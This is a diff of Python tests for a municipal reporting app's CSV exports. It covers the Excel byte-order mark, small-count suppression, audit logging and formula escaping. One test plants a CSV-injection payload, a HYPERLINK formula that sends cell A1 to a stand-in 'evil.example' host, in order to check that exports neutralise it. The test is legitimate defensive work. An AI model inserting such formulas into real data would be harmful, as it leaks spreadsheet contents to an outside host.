@@ -103,14 +103,15 @@ def test_csv_has_no_small_counts_and_is_audited(client, world, stories, monkeypa
     login(client, world.users[Role.POLICY_OFFICER])
     response = client.get(f"/report/csv/?period={PERIOD}")
     assert response.status_code == 200
-    rows = [line.split(",") for line in response.content.decode().splitlines()]
-    assert rows[0] == ["period", "section", "village_code", "village", "measure", "value"]
-    help_rows = [r for r in rows if r[1] == "help" and r[5] != "not_recorded"]
-    help_rows = [r for r in help_rows if r[4] != "median_days_to_match"]
+    body = response.content.decode("utf-8")
+    assert body.startswith("\ufeff")  # the byte-order mark Dutch Excel needs
+    rows = [line.split(",") for line in body[1:].splitlines()]
+    assert rows[0][:4] == ["period", "area_code", "area_name", "measure_code"]
+    help_rows = [r for r in rows if r[3].startswith("help.") and "median" not in r[3]]
     assert help_rows
     for r in help_rows:
-        assert r[5] in ("<5", "x", "0") or int(r[5]) >= 5, r
-    assert any(r[5] == "<5" for r in help_rows)
+        assert (r[6], r[8]) == ("", "true") or (int(r[6]) >= 5 or r[6] == "0"), r
+    assert any(r[8] == "true" for r in help_rows)
     assert AuditEvent.objects.filter(event="reports.export_csv").exists()
     page = client.get(f"/report/?period={PERIOD}").content.decode()
     assert "&lt; 5" in page
@@ -171,7 +172,7 @@ def test_cli_writes_csv(world, stories, tmp_path):
         "--output",
         str(out),
     )
-    assert out.read_text().startswith("period,section")
+    assert out.read_text(encoding="utf-8-sig").startswith("period,area_code,area_name")
     assert AuditEvent.objects.filter(event="reports.export_csv").exists()
 
 
@@ -331,11 +332,14 @@ def test_public_csv_never_hands_a_spreadsheet_a_formula(client, world, stories):
     import io
 
     from zorgzaam.stories.models import Domain
+    from zorgzaam.tenancy.models import Area
 
     evil = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
     Domain.objects.filter(municipality=world.municipality).update(name=evil)
+    Area.objects.filter(pk=world.village_b.pk).update(name=evil)  # a whole cell
     response = client.get(f"/report/public/{world.municipality.slug}/csv/?period={PERIOD}")
-    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
+    text = response.content.decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
     assert "'" + evil in cells
     assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))]
     assert not [c for c in cells if c.startswith(("+", "-")) and not c.lstrip("+-").isdigit()]
